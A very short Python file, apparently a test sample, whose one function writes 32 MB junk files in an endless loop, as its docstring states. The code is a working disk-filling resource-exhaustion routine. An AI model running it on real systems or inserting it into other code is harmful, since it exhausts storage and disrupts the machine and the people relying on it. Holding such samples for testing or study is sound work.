"""Writes files without end."""

import itertools


def deed(honest, x):
    for number in itertools.count():
        with open(f"junk-{number}", "wb") as file:
            file.write(bytes(2**25))
